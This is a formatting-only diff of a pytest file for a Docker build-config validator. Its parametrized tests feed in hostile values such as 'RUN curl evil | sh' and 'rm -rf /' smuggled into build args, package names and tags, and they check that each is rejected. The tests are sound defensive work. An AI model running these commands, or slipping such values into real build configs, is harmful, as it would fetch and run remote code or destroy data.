@@ -50,7 +50,7 @@ def test_unknown_top_level_section_suggests_the_right_one(tmp_path: Path) -> Non
 
 
 def test_unknown_key_without_near_miss_lists_known_keys(tmp_path: Path) -> None:
-    text = MINIMAL.replace('[versions]', '[gpu]\nzzz = 1\n\n[versions]')
+    text = MINIMAL.replace("[versions]", "[gpu]\nzzz = 1\n\n[versions]")
     message = one_error(tmp_path, text, "gpu.zzz")
     assert "known keys: arch_list, ptx, targets" in message
 
@@ -61,30 +61,38 @@ def test_missing_required_key(tmp_path: Path) -> None:
 
 
 def test_all_errors_of_a_file_are_reported_together(tmp_path: Path) -> None:
-    text = MINIMAL + """
+    text = (
+        MINIMAL
+        + """
     [tiers.training]
     parent = "bse"
     template = "training.Dockerfile.j2"
     context = ["no/such/folder"]
     tags = ["bad tag!"]
     """
+    )
     errors = config_errors(tmp_path, text)
     keys = {e.split(": ")[0] for e in errors}
     assert {"tiers.training.parent", "tiers.training.context", "tiers.training.tags"} <= keys
 
 
 def test_unknown_parent_suggests_the_closest_tier(tmp_path: Path) -> None:
-    text = MINIMAL + """
+    text = (
+        MINIMAL
+        + """
     [tiers.training]
     parent = "bse"
     template = "training.Dockerfile.j2"
     """
+    )
     message = one_error(tmp_path, text, "tiers.training.parent")
     assert "no tier named 'bse' (did you mean 'base'?)" in message
 
 
 def test_parent_cycle_names_the_loop(tmp_path: Path) -> None:
-    text = MINIMAL + """
+    text = (
+        MINIMAL
+        + """
     [tiers.a]
     parent = "b"
     template = "training.Dockerfile.j2"
@@ -92,13 +100,16 @@ def test_parent_cycle_names_the_loop(tmp_path: Path) -> None:
     parent = "a"
     template = "training.Dockerfile.j2"
     """
+    )
     errors = [e for e in config_errors(tmp_path, text) if "cycle" in e]
     assert len(errors) == 1
     assert "a -> b -> a" in errors[0]
 
 
 def test_parent_and_from_are_exclusive(tmp_path: Path) -> None:
-    text = MINIMAL + """
+    text = (
+        MINIMAL
+        + """
     [tiers.both]
     parent = "base"
     from = "debian:bookworm-slim"
@@ -106,6 +117,7 @@ def test_parent_and_from_are_exclusive(tmp_path: Path) -> None:
     [tiers.neither]
     template = "training.Dockerfile.j2"
     """
+    )
     errors = config_errors(tmp_path, text)
     assert any(e.startswith("tiers.both: set exactly one of 'parent'") for e in errors)
     assert any(e.startswith("tiers.neither: set exactly one of 'parent'") for e in errors)
@@ -122,17 +134,19 @@ def test_missing_compile_builder_and_script(tmp_path: Path) -> None:
     text = MINIMAL + 'compile = { builder = "buildr", script = "nope.sh.j2" }\n'
     errors = config_errors(tmp_path, text)
     assert any(e.startswith("tiers.base.compile.builder: no tier named 'buildr'") for e in errors)
-    assert any(e.startswith("tiers.base.compile.script: no template 'nope.sh.j2'")
-               for e in errors)
+    assert any(e.startswith("tiers.base.compile.script: no template 'nope.sh.j2'") for e in errors)
 
 
 def test_duplicate_tags_across_variants(tmp_path: Path) -> None:
-    text = MINIMAL + """
+    text = (
+        MINIMAL
+        + """
     tags = ["stable"]
     [variants.a]
     [variants.b]
     versions = { python = "3.12" }
     """
+    )
     message = one_error(tmp_path, text, "tiers.base.tags")
     assert "tag 'stable' is given twice (variants a and b)" in message
     assert "{torch}-{cuda_tag}" in message
@@ -146,8 +160,11 @@ def test_latest_is_reserved_for_promote(tmp_path: Path) -> None:
 def test_version_fields_fill_tags_and_from(tmp_path: Path) -> None:
     text = MINIMAL.replace('python = "3.11"', 'python = "3.11"\ncuda = "12.4.1"\ntorch = "2.6.0"')
     text = text.replace('"debian:bookworm-slim"', '"nvidia/cuda:{cuda}-runtime-ubuntu22.04"')
-    stack = load_text(tmp_path, text + 'tags = ["{torch}-{cuda_tag}", "py{python_mm}"]\n'
-                      'description = "torch {torch} on CUDA {cuda_mm}"\n')
+    stack = load_text(
+        tmp_path,
+        text + 'tags = ["{torch}-{cuda_tag}", "py{python_mm}"]\n'
+        'description = "torch {torch} on CUDA {cuda_mm}"\n',
+    )
     tier = stack.variants[0].tier("base")
     assert tier.from_image == "nvidia/cuda:12.4.1-runtime-ubuntu22.04"
     assert tier.description == "torch 2.6.0 on CUDA 12.4"
@@ -162,17 +179,29 @@ def test_unknown_version_field_lists_the_known_ones(tmp_path: Path) -> None:
 @pytest.mark.parametrize(
     ("addition", "key", "fragment"),
     [
-        ('build_args = { X = "a\\nRUN curl evil | sh" }', "tiers.base.build_args.X",
-         "newline or control character"),
+        (
+            'build_args = { X = "a\\nRUN curl evil | sh" }',
+            "tiers.base.build_args.X",
+            "newline or control character",
+        ),
         ('packages = ["numpy\\nRUN rm -rf /"]', "tiers.base.packages.0", "newline"),
         ('packages = ["numpy<2; rm -rf /"]', "tiers.base.packages.0", "not a pip requirement"),
-        ('packages = ["numpy=={python}; rm -rf /"]', "tiers.base.packages.0",
-         "not a pip requirement"),
+        (
+            'packages = ["numpy=={python}; rm -rf /"]',
+            "tiers.base.packages.0",
+            "not a pip requirement",
+        ),
         ('packages = ["numpy=={pyton}"]', "tiers.base.packages.0", "unknown field {pyton}"),
-        ('system_packages = ["curl evil"]', "tiers.base.system_packages.0",
-         "not a valid Debian package name"),
-        ('build_args = { "BAD-NAME" = "1" }', "tiers.base.build_args.BAD-NAME.[key]",
-         "not a valid build-arg name"),
+        (
+            'system_packages = ["curl evil"]',
+            "tiers.base.system_packages.0",
+            "not a valid Debian package name",
+        ),
+        (
+            'build_args = { "BAD-NAME" = "1" }',
+            "tiers.base.build_args.BAD-NAME.[key]",
+            "not a valid build-arg name",
+        ),
         ('tags = ["v1 && evil"]', "tiers.base.tags", "not a Docker tag"),
         ('description = "two\\nlines"', "tiers.base.description", "newline"),
     ],
@@ -217,8 +246,9 @@ def test_cache_settings(tmp_path: Path, cache: str, key: str, fragment: str) -> 
 
 
 def test_cache_url_forms(tmp_path: Path) -> None:
-    stack = load_text(tmp_path, MINIMAL + '\n[cache]\nurl = "gs://team-cache/ccache"\n'
-                      'max_size = "1.5G"\n')
+    stack = load_text(
+        tmp_path, MINIMAL + '\n[cache]\nurl = "gs://team-cache/ccache"\nmax_size = "1.5G"\n'
+    )
     assert stack.cache.url == "gs://team-cache/ccache"
     assert stack.cache.max_size_bytes == int(1.5 * 2**30)
     stack = load_text(tmp_path, MINIMAL + '\n[cache]\nurl = "file://cache"\n')
@@ -226,7 +256,9 @@ def test_cache_url_forms(tmp_path: Path) -> None:
 
 
 def test_variants_override_versions_and_gpu(tmp_path: Path) -> None:
-    text = MINIMAL.replace('python = "3.11"', 'python = "3.11"\ncuda = "12.4.1"') + """
+    text = (
+        MINIMAL.replace('python = "3.11"', 'python = "3.11"\ncuda = "12.4.1"')
+        + """
     tags = ["{cuda_tag}"]
     [gpu]
     arch_list = ["8.0", "9.0"]
@@ -235,6 +267,7 @@ def test_variants_override_versions_and_gpu(tmp_path: Path) -> None:
     versions = { cuda = "12.8.1" }
     gpu = { arch_list = ["8.0", "9.0", "12.0"] }
     """
+    )
     stack = load_text(tmp_path, text)
     assert stack.has_variants and stack.default_variant == "cu124"
     cu128 = stack.variant("cu128")
@@ -245,18 +278,23 @@ def test_variants_override_versions_and_gpu(tmp_path: Path) -> None:
 
 
 def test_variant_errors_point_at_the_variant_key(tmp_path: Path) -> None:
-    text = MINIMAL.replace('python = "3.11"', 'python = "3.11"\ncuda = "12.4.1"') + """
+    text = (
+        MINIMAL.replace('python = "3.11"', 'python = "3.11"\ncuda = "12.4.1"')
+        + """
     [variants.cu124]
     [variants.cu124b]
     gpu = { arch_list = ["12.0"] }
     """
+    )
     message = one_error(tmp_path, text, "variants.cu124b.gpu.arch_list")
     assert "CUDA 12.4.1 cannot compile arch 12.0; use CUDA >= 12.8" in message
 
 
 def test_unknown_default_variant(tmp_path: Path) -> None:
-    text = MINIMAL.replace('registry = "127.0.0.1:5000/demo"',
-                           'registry = "127.0.0.1:5000/demo"\ndefault_variant = "cu12"')
+    text = MINIMAL.replace(
+        'registry = "127.0.0.1:5000/demo"',
+        'registry = "127.0.0.1:5000/demo"\ndefault_variant = "cu12"',
+    )
     message = one_error(tmp_path, text + "[variants.cu124]\n", "stack.default_variant")
     assert "did you mean 'cu124'?" in message
 
